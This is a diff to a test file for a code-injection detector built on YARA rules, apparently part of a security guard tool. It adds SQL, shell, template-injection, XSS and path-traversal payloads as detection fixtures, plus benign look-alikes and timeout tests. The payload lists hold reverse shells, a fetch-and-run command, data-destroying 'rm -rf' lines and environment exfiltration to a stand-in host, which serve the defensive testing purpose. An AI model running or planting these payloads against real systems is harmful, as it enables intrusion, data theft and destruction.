@@ -5,14 +5,21 @@ import time
 from contextlib import suppress
 
 import pytest
-import yara_x
 
+from state.errors import KairosError
 from tools.guard.check import About, Hit
 from tools.guard.checks import code_injection as check
 from tools.guard.checks.code_injection import Options
 
 PAYLOADS = {
     "sql": [
+        "') OR ('x'='x",
+        "%' OR '%'='",
+        "1 OR 1=1",
+        "105; DROP TABLE Suppliers",
+        "' UNION ALL SELECT card FROM payments WHERE '1'='1",
+        "1' ORDER BY 10--",
+        "'; SELECT pg_sleep(10)--",
         "' OR '1'='1",
         "admin' or 1=1 --",
         '" or 1=1 #',
@@ -34,6 +41,11 @@ PAYLOADS = {
         "admin'--'",
     ],
     "shell": [
+        "$(rm -rf ~/)",
+        "wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
+        "ruby -rsocket -e 'exit if fork'",
+        "() { :;}; /bin/bash -c 'id'",
+        "os.system('rm -rf /')",
         "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
         "nc -e /bin/sh 10.0.0.5 4444",
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 9001 > /tmp/f",
@@ -57,6 +69,11 @@ PAYLOADS = {
         "env | base64 | curl -d @- https://evil.example",
     ],
     "template": [
+        "<%= File.open('/etc/passwd').read %>",
+        "#set($x=$class.forName('java.lang.Runtime'))",
+        "{{constructor.constructor('alert(1)')()}}",
+        "${@print(md5(1))}",
+        "*{T(java.lang.System).getenv()}",
         "{{7*7}}",
         "Hello {{ 7 * '7' }}",
         "${7*7}",
@@ -76,6 +93,9 @@ PAYLOADS = {
         "${${lower:j}ndi:rmi://evil.example/a}",
     ],
     "xss": [
+        "'-alert(1)-'",
+        '<a href="jav&#x09;ascript:alert(1)">',
+        "<x onclick=alert(1)>",
         '"><script>alert(1)</script>',
         "'><img src=x onerror=alert(1)>",
         "</title><script>alert(document.domain)</script>",
@@ -96,6 +116,9 @@ PAYLOADS = {
         "<script src=//evil.example/xss.js></script>",
     ],
     "path": [
+        "..;/..;/etc/passwd",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "expect://id",
         "../../../../etc/passwd",
         "..\\..\\..\\windows\\system32\\config\\sam",
         "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
@@ -108,6 +131,14 @@ PAYLOADS = {
     ],
 }
 HARMLESS = [
+    '<img src="a.png" onload="resize(this)">',
+    '<a href="#" onclick="alert(\'Saved\'); return false;">',
+    "cp ../../etc/nginx.conf /etc/nginx/",
+    "if x == 'a' or 1 == y or 'b' == z:",
+    "SELECT 'a' UNION SELECT name FROM t WHERE kind = 'x';",
+    "curl -LO https://dl.example.org/tool && chmod +x tool && ./tool",
+    "subprocess.run('rm -rf build', shell=True)",
+    "sudo apt-get upgrade && sudo reboot",
     "SELECT name, salary FROM employees WHERE department = 'Sales' AND salary > 50000 ORDER BY salary DESC;",
     "SELECT id FROM a UNION SELECT id FROM b; -- both lists",
     "SELECT city FROM customers UNION ALL SELECT city FROM suppliers ORDER BY city;",
@@ -216,12 +247,29 @@ async def test_only_the_families_that_count() -> None:
     assert {hit.rule for hit in await found(text, Options(families=("path",)))} == {"path_traversal"}
 
 
+async def test_a_scan_that_takes_too_long_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(check, "_matches", lambda data, families: None)
+    with pytest.raises(KairosError) as failed:
+        await found("text")
+    assert failed.value.code == "check_timed_out"
+
+
 @pytest.mark.parametrize(
     "unit", ["' or ", "../", "{{", "<img src=x ", "a; ", "union select ", "%2e%2e%2f", "é"]
 )
 async def test_a_megabyte_of_beginnings_takes_bounded_time(unit: str) -> None:
     text = unit * (1_000_000 // len(unit))
     started = time.perf_counter()
-    with suppress(yara_x.TimeoutError):  # the policy then refuses
+    with suppress(KairosError):  # the policy then refuses
         assert len(await found(text)) <= 50 * check.MATCHES
     assert time.perf_counter() - started < 30
+
+
+@pytest.mark.parametrize("family", check.FAMILIES)
+def test_no_rule_is_slow_and_each_is_in_its_family(family: check.Family) -> None:
+    import yara_x
+
+    compiler = yara_x.Compiler(includes_enabled=False, error_on_slow_pattern=True)
+    compiler.add_source((check._RULES / f"{family}.yar").read_text())
+    assert compiler.warnings() == []
+    assert {rule.tags for rule in compiler.build()} == {(family,)}
